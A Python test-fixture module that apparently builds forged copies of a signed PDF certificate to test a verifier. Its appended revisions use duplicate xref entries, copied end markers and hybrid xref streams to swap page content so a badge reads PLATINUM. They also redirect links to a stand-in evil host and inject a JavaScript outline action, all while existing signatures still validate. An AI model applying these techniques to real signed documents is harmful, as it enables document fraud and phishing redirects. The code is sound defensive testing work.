"""Forgeries of issue 40 ("No forgery verifies, round 2"), built from a genuine signed certificate
(adapted from the security pass's forgery kit; used by tests/test_sign_tsa.py and
tests/test_verify_revisions.py).

Self-contained: bytes in, bytes out; reads the genuine file with pypdf only, writes every
appended revision by hand (the point of these attacks is bytes no PDF library writes).
Deterministic: no clock, no randomness; the same input gives the same forgery.

Every forgery *appends* to the genuine file: the signed bytes (and, for a B-LTA file, the
timestamped ones) are untouched, so each signature's digest still holds.

Variant classes (issue 40, "Parser differentials after a timestamp" and "Unsigned revisions"):

1. duplicate xref entries: `duplicate_xref` appends a revision whose classic xref table lists
   page 1's content stream twice, first entry -> a forged stream, last entry -> the original
   offset (pyHanko keeps the last entry, poppler/MuPDF/Ghostscript the first);
   `hybrid=True` adds an /XRefStm cross-reference stream to that table (a "hybrid" revision).
2. copied end markers: `copied_eof` appends the forged stream, a copy of the file's own last
   `startxref N %%EOF`, then a short xref (table or stream) + `startxref` with no `%%EOF`
   (pyHanko stops at the copied %%EOF; others read the last startxref).
3. restated annotation and outline: `restate_links` redefines page 6's /URI link annotations
   (another host) and the first outline item (a /JavaScript action), written plainly, in a
   new object stream, or hidden by either trick above.
4. unsigned revisions after a timestamp: `noop_revision`, `orphan_objects`, `set_version`.
5. plain-to-LTA conversion and key-holder signing need keys/a TSA: see `NEEDS_KEYS`.

Low-level: `append_revision` writes any revision (objects, object stream, xref as table /
stream / hybrid, duplicate entries allowed, normal or copied end markers); `platinum_overlay`
is the content drawn over page 1 (vector strokes, no font); `forged_page_content` is page 1's
own content with that overlay.
"""

from __future__ import annotations

import functools
import io
import re
import zlib
from dataclasses import dataclass, field
from typing import Literal

import pypdf
from pypdf.generic import IndirectObject

__all__ = [
    "EVIL_HOST",
    "NEEDS_KEYS",
    "Entry",
    "Revision",
    "append_revision",
    "copied_eof",
    "duplicate_xref",
    "duplicate_xref_stream",
    "forged_page_content",
    "noop_revision",
    "orphan_objects",
    "page_content_ref",
    "platinum_overlay",
    "restate_links",
    "set_version",
    "variants",
]

EVIL_HOST = "https://certificates.example.net.evil.test"
"""Where the restated page-6 links point instead of the lab's verification base."""


# --- reading the genuine file ------------------------------------------------------------------

@dataclass(frozen=True)
class _Facts:
    """What a forgery needs from the genuine file (read with pypdf, final revision)."""

    size: int
    root: int
    info: int | None
    ids: tuple[bytes, bytes] | None
    prev: int
    """The last `startxref` value: the newest revision's cross-reference section."""
    tail: bytes
    """The file's own last `startxref\\nN\\n%%EOF` lines, verbatim."""


def _reader(pdf: bytes) -> pypdf.PdfReader:
    return pypdf.PdfReader(io.BytesIO(pdf), strict=False)


def _id_bytes(part: object) -> bytes:
    raw = getattr(part, "original_bytes", None)
    if raw is not None:
        return bytes(raw)
    return bytes(part) if isinstance(part, bytes) else str(part).encode("latin-1")


def _facts(pdf: bytes) -> _Facts:
    reader = _reader(pdf)
    trailer = reader.trailer
    ids = trailer.get("/ID")
    info = trailer.raw_get("/Info") if "/Info" in trailer else None
    tails = list(re.finditer(rb"startxref\s+(\d+)\s+%%EOF[ \t]*\r?\n?", pdf))
    if not tails:
        raise ValueError("no startxref … %%EOF in the file")
    return _Facts(size=int(trailer["/Size"]), root=trailer.raw_get("/Root").idnum,
                  info=None if info is None else info.idnum,
                  ids=None if ids is None else (_id_bytes(ids[0]), _id_bytes(ids[1])),
                  prev=int(tails[-1].group(1)), tail=tails[-1].group(0))


def page_content_ref(pdf: bytes, page: int = 0) -> int:
    """The object number of page `page`'s (0-based) content stream (its first one, if an
    array)."""
    page_obj = _reader(pdf).pages[page]
    contents = page_obj.raw_get("/Contents")
    if not isinstance(contents, IndirectObject):
        contents = contents[0]
    return int(contents.idnum)


def _where(pdf: bytes, number: int) -> tuple[int, int, int]:
    """The newest xref entry of object `number`: (1, offset, 0) or (2, objstm, index)."""
    reader = _reader(pdf)
    if number in reader.xref_objStm:
        stm, index = reader.xref_objStm[number]
        return (2, int(stm), int(index))
    return (1, int(reader.xref[0][number]), 0)


def _unparse(pdf: bytes, number: int) -> bytes:
    """Object `number` of the genuine file as PDF syntax (references kept as `N 0 R`)."""
    out = io.BytesIO()
    _reader(pdf).get_object(number).write_to_stream(out)
    return out.getvalue()


# --- writing a revision ---------------------------------------------------------------------

@dataclass(frozen=True)
class Entry:
    """One cross-reference entry: type 1 (byte `a` = offset) or 2 (`a` = object stream number,
    `b` = index in it); `new` names an object of this revision whose offset/stream is filled in
    when written (then `a`/`b` are ignored for type 1, and `a` is ignored for type 2)."""

    number: int
    kind: Literal[1, 2] = 1
    a: int = 0
    b: int = 0
    new: bool = True
    nth: int = 0
    """With `new`: which of this revision's plain objects numbered `number` (0: the first
    written), for a revision that writes one object number twice."""


@dataclass
class Revision:
    """An incremental update to write by hand.

    objects: plain indirect objects (body between `N 0 obj` and `endobj`), in order.
    objstm: objects (non-stream) packed into one new object stream, numbered `objstm_number`.
    table / stream: entries listed in the classic table and in the cross-reference stream; in
      the order given, duplicates allowed. Entries for this revision's own objects are made
      automatically (`auto=True`) unless listed explicitly.
    xref: "table" (classic), "stream" (xref stream object), "hybrid" (table + /XRefStm).
    tail: "eof" (startxref N %%EOF) or "copied-eof" (objects, then the genuine file's own last
      `startxref … %%EOF` copied, then the xref section and `startxref N` with no %%EOF).
    trailer_extra: extra trailer keys (PDF syntax, e.g. b"/Foo 1").
    """

    objects: list[tuple[int, bytes]] = field(default_factory=list)
    objstm: list[tuple[int, bytes]] = field(default_factory=list)
    objstm_number: int | None = None
    table: list[Entry] = field(default_factory=list)
    stream: list[Entry] = field(default_factory=list)
    xref: Literal["table", "stream", "hybrid"] = "stream"
    tail: Literal["eof", "copied-eof"] = "eof"
    auto: bool = True
    trailer_extra: bytes = b""


def _stream(dictionary: bytes, data: bytes, *, compress: bool = True) -> bytes:
    """A stream object's body: `dictionary` entries (without << >>) and data."""
    if compress:
        data = zlib.compress(data, 9)
        dictionary += b" /Filter /FlateDecode"
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _objstm_body(members: list[tuple[int, bytes]]) -> bytes:
    header = b""
    body = b""
    for number, obj in members:
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    header += b"\n"
    return _stream(b"/Type /ObjStm /N %d /First %d" % (len(members), len(header)), header + body)


def _trailer_keys(facts: _Facts, size: int, extra: bytes) -> bytes:
    keys = b"/Size %d /Root %d 0 R" % (size, facts.root)
    if facts.info is not None:
        keys += b" /Info %d 0 R" % facts.info
    if facts.ids is not None:
        keys += b" /ID [<%s> <%s>]" % (facts.ids[0].hex().encode(), facts.ids[1].hex().encode())
    return keys + b" /Prev %d" % facts.prev + (b" " + extra if extra else b"")


def _table(entries: list[tuple[int, int, int]]) -> bytes:
    """A classic xref table, one subsection per entry (so an object may be listed twice);
    free-list head first."""
    out = b"xref\n0 1\n0000000000 65535 f\r\n"
    for number, kind, offset in entries:
        assert kind == 1
        out += b"%d 1\n%010d 00000 n\r\n" % (number, offset)
    return out


def append_revision(pdf: bytes, rev: Revision) -> bytes:
    """`pdf` with the incremental update `rev` appended (see Revision)."""
    facts = _facts(pdf)
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets: dict[int, int] = {}
    written: dict[tuple[int, int], int] = {}
    for number, body in rev.objects:
        nth = sum(1 for (n, _) in written if n == number)
        written[(number, nth)] = len(out)
        offsets.setdefault(number, len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    members: dict[int, int] = {}
    if rev.objstm:
        assert rev.objstm_number is not None
        offsets[rev.objstm_number] = written[(rev.objstm_number, 0)] = len(out)
        out += b"%d 0 obj\n" % rev.objstm_number + _objstm_body(rev.objstm) + b"\nendobj\n"
        members = {number: i for i, (number, _) in enumerate(rev.objstm)}

    def rows(entries: list[Entry]) -> list[tuple[int, int, int, int]]:
        result = []
        for e in entries:
            if e.kind == 1:
                result.append((e.number, 1, written[(e.number, e.nth)] if e.new else e.a, 0))
            else:
                stm = rev.objstm_number if e.new else e.a
                idx = members[e.number] if e.new else e.b
                result.append((e.number, 2, int(stm or 0), idx))
        return result

    listed = {e.number for e in rev.table + rev.stream}
    auto = [Entry(n) for n in offsets if n not in listed] if rev.auto else []
    auto2 = [Entry(n, 2) for n in members if n not in listed] if rev.auto else []
    numbers = [n for n, _ in rev.objects] + [n for n, _ in rev.objstm] + list(offsets)
    if rev.tail == "copied-eof":
        out += facts.tail if facts.tail.endswith(b"\n") else facts.tail + b"\n"

    if rev.xref == "table":
        table = rows(rev.table + auto)
        assert not auto2 and not rev.stream, "a classic table cannot list object-stream members"
        size = max([facts.size] + [n + 1 for n in numbers])
        start = len(out)
        out += _table([(n, k, a) for n, k, a, _ in table])
        out += b"trailer\n<< " + _trailer_keys(facts, size, rev.trailer_extra) + b" >>\n"
    else:
        xref_number = max([facts.size] + [n + 1 for n in numbers])
        size = xref_number + 1
        table_rows = rows(rev.table + (auto if rev.xref == "hybrid" else []))
        start_stream = len(out)
        self_entry = [(xref_number, 1, start_stream, 0)]
        stream_rows = rows(rev.stream) + sorted(
            rows(([] if rev.xref == "hybrid" else auto) + auto2) + self_entry)
        # pyHanko refuses an /Index whose subsections are not ascending: only the explicit
        # entries (a forgery's duplicates) are written out of order.
        data = b"".join(bytes([k]) + a.to_bytes(8, "big") + b.to_bytes(2, "big")
                        for _, k, a, b in stream_rows)
        index = b" ".join(b"%d 1" % n for n, *_ in stream_rows)
        keys = b"/Type /XRef /W [1 8 2] /Index [" + index + b"] " + _trailer_keys(
            facts, size, rev.trailer_extra)
        out += b"%d 0 obj\n" % xref_number + _stream(keys, data, compress=False) + b"\nendobj\n"
        if rev.xref == "stream":
            start = start_stream
        else:
            start = len(out)
            out += _table([(n, k, a) for n, k, a, _ in table_rows])
            out += (b"trailer\n<< " + _trailer_keys(facts, size, rev.trailer_extra)
                    + b" /XRefStm %d >>\n" % start_stream)
    out += b"startxref\n%d\n" % start
    if rev.tail == "eof":
        out += b"%%EOF\n"
    return bytes(out)


# --- the forged page ------------------------------------------------------------------------

_GLYPHS: dict[str, list[list[tuple[float, float]]]] = {
    "P": [[(0, 0), (0, 6), (3, 6), (4, 5), (4, 4), (3, 3), (0, 3)]],
    "L": [[(0, 6), (0, 0), (4, 0)]],
    "A": [[(0, 0), (2, 6), (4, 0)], [(1, 3), (3, 3)]],
    "T": [[(0, 6), (4, 6)], [(2, 6), (2, 0)]],
    "I": [[(2, 0), (2, 6)], [(1, 6), (3, 6)], [(1, 0), (3, 0)]],
    "N": [[(0, 0), (0, 6), (4, 0), (4, 6)]],
    "U": [[(0, 6), (0, 1), (1, 0), (3, 0), (4, 1), (4, 6)]],
    "M": [[(0, 0), (0, 6), (2, 3), (4, 6), (4, 0)]],
}
"""A stroke font for the word PLATINUM: polylines on a 4 x 6 grid (no font resource needed)."""


def platinum_overlay(x: float = 50, y: float = 198, width: float = 152, height: float = 64,
                     word: str = "PLATINUM") -> bytes:
    """Content-stream operators (default user space, points) painting an opaque slate box at
    (x, y, width, height) with `word` stroked in white over it: where certgen's page 1 shows the
    GOLD badge."""
    ops = [b"q", b"0.33 0.38 0.45 rg", b"%.2f %.2f %.2f %.2f re f" % (x, y, width, height),
           b"1 1 1 RG 4 w 1 J 1 j"]
    pitch = (width - 16) / len(word)
    unit = min(pitch * 0.72 / 4, (height - 20) / 6)
    for i, letter in enumerate(word):
        ox, oy = x + 8 + i * pitch + (pitch - 4 * unit) / 2, y + (height - 6 * unit) / 2
        for line in _GLYPHS[letter]:
            (x0, y0), *rest = line
            ops.append(b"%.2f %.2f m" % (ox + x0 * unit, oy + y0 * unit))
            ops += [b"%.2f %.2f l" % (ox + px * unit, oy + py * unit) for px, py in rest]
            ops.append(b"S")
    ops.append(b"Q")
    return b"\n".join(ops) + b"\n"


@functools.lru_cache(maxsize=8)
def forged_page_content(pdf: bytes, page: int = 0) -> tuple[int, bytes]:
    """(object number, forged stream object body): page `page`'s own content, wrapped in q/Q,
    then `platinum_overlay()`; Flate-compressed. Worked out once per file and page (most
    variants forge the same page)."""
    number = page_content_ref(pdf, page)
    original = _reader(pdf).get_object(number).get_data()
    return number, _stream(b"", b"q\n" + original + b"\nQ\n" + platinum_overlay())


# --- 1. duplicate xref entries ----------------------------------------------------------------

def duplicate_xref(pdf: bytes, *, hybrid: bool = False, order: str = "forged-first") -> bytes:
    """Page 1's content stream redefined in an appended revision whose classic xref table lists
    it twice: first entry -> the forged stream (appended), last entry -> its original offset
    (`order="original-first"` swaps them). `hybrid=True`: the table's trailer also names an
    /XRefStm cross-reference stream (which lists only itself), making it a hybrid revision."""
    number, body = forged_page_content(pdf)
    kind, original, _ = _where(pdf, number)
    assert kind == 1, "a content stream is never inside an object stream"
    forged, signed = Entry(number), Entry(number, 1, original, new=False)
    first_two = [forged, signed] if order == "forged-first" else [signed, forged]
    return append_revision(pdf, Revision(objects=[(number, body)], table=first_two, auto=False,
                                         xref="hybrid" if hybrid else "table"))


def duplicate_xref_stream(pdf: bytes) -> bytes:
    """The same as `duplicate_xref`, with the duplicate pair in a cross-reference *stream*'s
    /Index (`[N 1 N 1 …]`) instead of a table."""
    number, body = forged_page_content(pdf)
    _, original, _ = _where(pdf, number)
    return append_revision(pdf, Revision(
        objects=[(number, body)], auto=False, xref="stream",
        stream=[Entry(number), Entry(number, 1, original, new=False)]))


# --- 2. copied end markers ------------------------------------------------------------------

def copied_eof(pdf: bytes, *, xref: Literal["table", "stream"] = "table") -> bytes:
    """Page 1's content stream redefined (forged) in an appended object, then a verbatim copy of
    the file's own last `startxref N %%EOF`, then a short xref (`xref`: classic table or xref
    stream) listing the forged object with `startxref` and no %%EOF after it."""
    number, body = forged_page_content(pdf)
    return append_revision(pdf, Revision(objects=[(number, body)], xref=xref, tail="copied-eof"))


# --- 3. restated annotation and outline --------------------------------------------------------

_STRING_OF_URI = re.compile(rb"(/(?:URI|Contents)\s*)\((?:\\.|[^\\)])*\)", re.S)


def _literal(data: bytes) -> bytes:
    """`data` escaped for a PDF literal string (without the parentheses)."""
    return data.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def _restated_links_and_outline(pdf: bytes, host: str, js: str
                                ) -> list[tuple[int, bytes]]:
    """New bodies for every /URI link annotation on the last page (host swapped for `host`)
    and for the first outline item (its /Dest replaced by a /JavaScript action)."""
    return list(_restated_once(pdf, host, js))


@functools.lru_cache(maxsize=8)
def _restated_once(pdf: bytes, host: str, js: str) -> tuple[tuple[int, bytes], ...]:
    """_restated_links_and_outline, worked out once per file (each variant of `variants` and
    `restated_numbers` ask for the same; about half a second a time)."""
    reader = _reader(pdf)
    out: list[tuple[int, bytes]] = []
    for ref in reader.pages[-1].get("/Annots") or []:
        annot = ref.get_object()
        action = annot.get("/A")
        if annot.get("/Subtype") != "/Link" or action is None or "/URI" not in action:
            continue
        body = _unparse(pdf, ref.idnum)
        uri = str(action["/URI"])
        new_uri = re.sub(r"^[a-z]+://[^/]+", host, uri)
        # pypdf writes strings as literals with octal escapes: replace the whole value of
        # /URI (and of the link's /Contents, its tooltip) with the new address.
        literal = b"(" + _literal(new_uri.encode()) + b")"
        body, count = _STRING_OF_URI.subn(lambda m, literal=literal: m.group(1) + literal, body)
        assert count >= 1, "the /URI was not found in the unparsed annotation"
        out.append((ref.idnum, body))
    outlines = reader.trailer["/Root"].get("/Outlines")
    if outlines is not None:
        first = outlines.get_object().raw_get("/First")
        item = first.get_object()
        while "/First" in item:            # the first leaf: the title item's first child
            first = item.raw_get("/First")
            item = first.get_object()
        body = _unparse(pdf, first.idnum)
        body = re.sub(rb"/Dest\s*\[[^\]]*\]", b"", body)
        body = body[:-2] + b" /A << /S /JavaScript /JS (" + _literal(js.encode()) + b") >> >>"
        out.append((first.idnum, body))
    return tuple(out)


def restated_numbers(pdf: bytes) -> list[int]:
    """The numbers of the objects `restate_links` restates, in the order it writes them: they
    move whenever the rendered document gains or loses an object."""
    return [number for number, _ in _restated_links_and_outline(pdf, EVIL_HOST, "")]


def restate_links(pdf: bytes, *, host: str = EVIL_HOST, js: str = "app.alert('PLATINUM')",
                  how: Literal["plain", "objstm", "duplicate", "duplicate-hybrid", "duplicate-objstm",
                               "copied-eof", "copied-eof-objstm"] = "plain") -> bytes:
    """Page 6's link annotations restated to point at `host`, and the first outline item
    restated with a /JavaScript action, in one appended revision:

    plain: plain objects, xref stream; objstm: the restated objects in a new object stream;
    duplicate: classic table listing each restated object twice: the restated body first, a
      verbatim copy of the genuine object (written after it, same number) last;
    duplicate-hybrid: the table lists the restated body, the hybrid /XRefStm the genuine
      object-stream entry (a classic table cannot name an object-stream member);
    duplicate-objstm: restated objects in a new object stream, listed in an xref stream twice
      (new first, the original object-stream entry last; pyHanko refuses such an /Index);
    copied-eof / copied-eof-objstm: the restatement followed by the copied end markers.
    Page 1's forged content is included in the duplicate / copied-eof variants, hidden the same
    way."""
    restated = _restated_links_and_outline(pdf, host, js)
    facts = _facts(pdf)
    if how == "plain":
        return append_revision(pdf, Revision(objects=restated))
    if how == "objstm":
        return append_revision(pdf, Revision(objstm=restated, objstm_number=facts.size))
    page_number, page_body = forged_page_content(pdf)
    _, page_original, _ = _where(pdf, page_number)
    if how in ("copied-eof", "copied-eof-objstm"):
        if how == "copied-eof":
            return append_revision(pdf, Revision(objects=[(page_number, page_body), *restated],
                                                 xref="table", tail="copied-eof"))
        return append_revision(pdf, Revision(objects=[(page_number, page_body)], objstm=restated,
                                             objstm_number=facts.size, xref="stream",
                                             tail="copied-eof"))
    originals = {n: _where(pdf, n) for n, _ in restated}
    page_pair = [Entry(page_number), Entry(page_number, 1, page_original, new=False)]
    if how == "duplicate":
        # The genuine annotations live in an object stream, which a classic table cannot
        # name: the "last entry" is a verbatim copy of the genuine object, written after the
        # restated one in the same revision.
        copies = [(n, _unparse(pdf, n)) for n, _ in restated]
        table = list(page_pair)
        for n, _ in restated:
            kind, a, _ = originals[n]
            table += [Entry(n), Entry(n, 1, a, new=False) if kind == 1 else Entry(n, nth=1)]
        return append_revision(pdf, Revision(
            objects=[(page_number, page_body), *restated, *copies], table=table, auto=False,
            xref="table"))
    if how == "duplicate-hybrid":
        # The last entry of each restated object is its genuine object-stream entry, given in
        # the hybrid revision's /XRefStm.
        table, stream = list(page_pair), []
        for n, _ in restated:
            kind, a, b = originals[n]
            table.append(Entry(n))
            if kind == 1:
                table.append(Entry(n, 1, a, new=False))
            else:
                stream.append(Entry(n, 2, a, b, new=False))
        return append_revision(pdf, Revision(objects=[(page_number, page_body), *restated],
                                             table=table, stream=stream, auto=False,
                                             xref="hybrid" if stream else "table"))
    # duplicate-objstm
    entries = list(page_pair)
    for n, _ in restated:
        kind, a, b = originals[n]
        entries += [Entry(n, 2), Entry(n, kind, a, b, new=False)]  # type: ignore[arg-type]
    return append_revision(pdf, Revision(objects=[(page_number, page_body)], objstm=restated,
                                         objstm_number=facts.size, stream=entries, auto=False,
                                         xref="stream"))


# --- 4. unsigned revisions after a timestamp -----------------------------------------------------

def noop_revision(pdf: bytes) -> bytes:
    """An appended revision that defines nothing: an xref stream listing only itself."""
    return append_revision(pdf, Revision())


def orphan_objects(pdf: bytes) -> bytes:
    """An appended revision adding objects nothing refers to: a JavaScript action, a page-sized
    content stream drawing PLATINUM, a file specification."""
    size = _facts(pdf).size
    return append_revision(pdf, Revision(objects=[
        (size, b"<< /Type /Action /S /JavaScript /JS (app.alert\\('PLATINUM'\\)) >>"),
        (size + 1, _stream(b"", platinum_overlay())),
        (size + 2, b"<< /Type /Filespec /F (platinum.json) /UF (platinum.json) >>"),
    ]))


def set_version(pdf: bytes, version: str = "2.0") -> bytes:
    """The catalog restated with /Version /`version` (everything else as signed)."""
    facts = _facts(pdf)
    body = _unparse(pdf, facts.root)
    body = re.sub(rb"/Version\s*/[0-9.]+", b"", body)
    body = body[:-2] + b" /Version /" + version.encode() + b" >>"
    return append_revision(pdf, Revision(objects=[(facts.root, body)]))


# --- 5. what needs keys ------------------------------------------------------------------------

NEEDS_KEYS = {
    "plain-to-LTA": (
        "A plainly signed certificate, then (anyone, no lab key) a DSS revision and a document "
        "timestamp from a TSA the customer trusts with --tsa-trust (pyHanko PdfTimeStamper with "
        "an HTTPTimeStamper at that TSA, DSS via DocumentSecurityStore.supply_dss_in_writer with "
        "the TSA chain's CRLs), which turns the file into a 'timestamped' one; then any variant "
        "above appended. Needs: the public TSA's URL (tests: tsakit.running_authority) and the "
        "customer's --tsa-trust root. The signer's certificate must carry revocation info (a CRL "
        "distribution point) for pyHanko's LTA validation to pass."),
    "key-holder": (
        "certgen's unsigned render (render_certificate_pdf of the record), edited before signing "
        "(e.g. page 1's content stream rewritten with forged_page_content, or a vector overlay "
        "appended with pikepdf), then signed with plain pyHanko (signers.sign_pdf, field "
        "'CertgenSignature', /Name 'A. Sample') with the lab's p12: only /Producer differs from "
        "certgen's own, so verify falls back to text-and-image comparison. Needs the lab key "
        "(tests: pkikit.make_pki().lab_p12)."),
}


# --- the catalogue ----------------------------------------------------------------------------

def variants(pdf: bytes) -> dict[str, bytes]:
    """Every variant of classes 1-4 built from `pdf`, by name (stable order)."""
    return {
        "dup-xref-table": duplicate_xref(pdf),
        "dup-xref-table-origfirst": duplicate_xref(pdf, order="original-first"),
        "dup-xref-hybrid": duplicate_xref(pdf, hybrid=True),
        "dup-xref-stream": duplicate_xref_stream(pdf),
        "copied-eof-table": copied_eof(pdf, xref="table"),
        "copied-eof-stream": copied_eof(pdf, xref="stream"),
        "links-plain": restate_links(pdf, how="plain"),
        "links-objstm": restate_links(pdf, how="objstm"),
        "links-dup": restate_links(pdf, how="duplicate"),
        "links-dup-hybrid": restate_links(pdf, how="duplicate-hybrid"),
        "links-dup-objstm": restate_links(pdf, how="duplicate-objstm"),
        "links-copied-eof": restate_links(pdf, how="copied-eof"),
        "links-copied-eof-objstm": restate_links(pdf, how="copied-eof-objstm"),
        "noop-revision": noop_revision(pdf),
        "orphan-objects": orphan_objects(pdf),
        "catalog-version": set_version(pdf),
    }
